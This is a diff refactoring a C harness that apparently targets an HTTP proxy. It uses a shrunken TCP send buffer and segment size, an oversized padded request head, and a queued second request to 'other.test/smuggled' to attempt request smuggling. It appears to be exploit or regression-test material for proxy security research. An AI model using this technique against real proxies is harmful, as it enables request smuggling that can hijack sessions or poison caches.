@@ -7,15 +7,7 @@
  * has not looked at an error, until the proxy has seen an end or has waited
  * enough.
  */
-#include <errno.h>
-#include <fcntl.h>
-#include <netinet/in.h>
 #include <netinet/tcp.h>
-#include <poll.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <unistd.h>
 
 #include "victim.h"
 
@@ -30,13 +22,12 @@ static void keep(const void *p, ssize_t n)
     close(to);
 }
 
-static int narrow_connection(const struct victim *v)
+static int narrow_connection(void)
 {
-    int room = 4096, segment = 1000, fd = victim_socket(v, 0);
+    int room = 4096, segment = 1000, fd = victim_socket(0);
     setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &room, sizeof room);
     setsockopt(fd, IPPROTO_TCP, TCP_MAXSEG, &segment, sizeof segment);
-    if (connect(fd, (const void *)&v->addr, v->addr_len) != 0)
-        fail("connect");
+    victim_join(fd);
     return fd;
 }
 
@@ -77,21 +68,21 @@ int main(int argc, char **argv)
 {
     static const char more[] = "GET http://other.test/smuggled HTTP/1.1\r\n"
                                "Host: other.test\r\n\r\n";
-    struct victim v;
     char *head = malloc(HEAD_N);
     size_t at = 0;
-    victim_args(&v, argc, argv);
-    int fd = victim_connect(&v);
-    do_get(&v, fd, "/login");
-    int n = head ? snprintf(head, HEAD_N,
-                            "GET http://%s/big HTTP/1.1\r\nX: ", v.authority)
-                 : 0;
+    victim_args(argc, argv);
+    int fd = victim_connect();
+    do_get(fd, "/login");
+    int n =
+        head ? snprintf(head, HEAD_N,
+                        "GET http://%s/big HTTP/1.1\r\nX: ", victim.authority)
+             : 0;
     if (!n)
         fail("malloc");
     memset(head + n, 'x', HEAD_N - (size_t)n);
     memcpy(head + HEAD_N - 4, "\r\n\r\n", 4);
-    int cut = narrow_connection(&v);
-    if (strcmp(v.mode, "poll") == 0)
+    int cut = narrow_connection();
+    if (in_mode("poll"))
         fcntl(cut, F_SETFL, O_NONBLOCK);
     send_head(cut, head);
     for (double start = seconds();
